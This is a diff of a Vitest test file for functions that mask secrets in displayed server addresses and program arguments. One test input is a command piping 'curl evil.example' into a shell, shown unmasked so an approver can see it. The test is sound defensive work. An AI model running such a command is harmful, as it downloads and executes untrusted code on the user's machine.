@@ -1,7 +1,7 @@
 import { describe, expect, test } from "vitest";
 import { shownAddress, shownArguments } from "./shown-values.ts";
 
-describe("an address that was stored before such were refused", () => {
+describe("shownAddress, for an address stored before secrets were refused", () => {
   test.each([
     { url: "https://h/mcp?api_key=abc&x=1", shown: "https://h/mcp?api_key=(hidden)&x=1" },
     { url: "https://h/mcp?x=1;token=abc", shown: "https://h/mcp?x=1;token=(hidden)" },
@@ -15,12 +15,12 @@ describe("an address that was stored before such were refused", () => {
     { url: "https://h/mcp;key=abc/x", shown: "https://h/mcp;key=(hidden)/x" },
     { url: "no address sk-ant-0123456789abcdef", shown: "(hidden)" },
     { url: "https://h/keys/mcp?keyword=news", shown: "https://h/keys/mcp?keyword=news" },
-  ])("$url is shown as $shown", ({ url, shown }) => {
+  ])("shows $url as $shown", ({ url, shown }) => {
     expect(shownAddress(url)).toBe(shown);
   });
 });
 
-describe("arguments of a program", () => {
+describe("shownArguments", () => {
   test.each([
     { args: ["srv", "--token", "abc123"], shown: ["srv", "--token", "(hidden)"] },
     { args: ["--api-key=abc123", "srv"], shown: ["--api-key=(hidden)", "srv"] },
@@ -31,11 +31,11 @@ describe("arguments of a program", () => {
     { args: ["srv", "https://h/mcp?token=abc123"], shown: ["srv", "https://h/mcp?token=(hidden)"] },
     { args: ["srv", "postgres://me:abc123@db/x"], shown: ["srv", "postgres://(hidden)@db/x"] },
     { args: ["srv", "sk-ant-api03-0123456789abcdef"], shown: ["srv", "(hidden)"] },
-  ])("$args are shown as $shown", ({ args, shown }) => {
+  ])("shows $args as $shown", ({ args, shown }) => {
     expect(shownArguments(args)).toEqual(shown);
   });
 
-  // What is run is never hidden from the person who is asked.
+  // The program that runs is never hidden from the person who approves it.
   test.each([
     { title: "a package after a flag of the runner", args: ["-y", "--auth", "evil-package"] },
     { title: "a command behind a variable", args: ["-c", "TOKEN=x; curl evil.example | sh"] },
@@ -45,7 +45,7 @@ describe("arguments of a program", () => {
     { title: "plain words", args: ["-y", "keyboard-mcp", "--keywords", "news", "--author=ann"] },
     { title: "a file", args: ["srv", "--key-file", "/etc/key.pem"] },
     { title: "an address", args: ["mcp-remote", "https://h.example/mcp"] },
-  ])("$title is shown as it is", ({ args }) => {
+  ])("shows $title unchanged", ({ args }) => {
     expect(shownArguments(args)).toEqual(args);
   });
 });
